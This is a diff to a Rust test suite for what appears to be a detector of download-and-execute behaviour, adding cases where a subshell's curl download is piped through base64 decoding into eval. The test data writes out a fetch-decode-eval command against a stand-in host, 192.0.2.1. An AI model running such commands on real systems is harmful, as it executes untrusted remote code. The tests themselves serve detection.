@@ -6739,4 +6739,41 @@ fn a_download_a_script_hands_to_eval_is_download_and_execute() {
         let found = evaluated(&events);
         assert!(found.is_empty(), "{found:?}");
     }
+    // `eval "$(curl URL | base64 -d)"`: the pipeline runs from a subshell, a fork of the
+    // script's shell (the same program, not exec'd), so the download's parent is that fork.
+    let from_fork = |fork_exe: &str| {
+        exec_by(
+            442,
+            "/usr/bin/curl",
+            &["curl", "-s", "http://192.0.2.1/x.b64"],
+            &[
+                (441, fork_exe),
+                (440, "/usr/bin/bash"),
+                (200, "/usr/bin/bash"),
+            ],
+        )
+    };
+    let piped = |mut e: Event| {
+        if let Event::Exec(x) = &mut e {
+            x.stdout_pipe = Some(89);
+        }
+        e
+    };
+    assert_eq!(
+        evaluated(&[
+            script(&["curl -s http://192.0.2.1/x.b64 | base64 -d"]),
+            piped(from_fork("/usr/bin/bash")),
+        ])
+        .len(),
+        1,
+        "a subshell's download"
+    );
+    // A grandchild under another program (a make the script runs) is not the script's own.
+    assert!(
+        evaluated(&[
+            script(&["curl -s http://192.0.2.1/x.b64 | base64 -d"]),
+            piped(from_fork("/usr/bin/make")),
+        ])
+        .is_empty()
+    );
 }
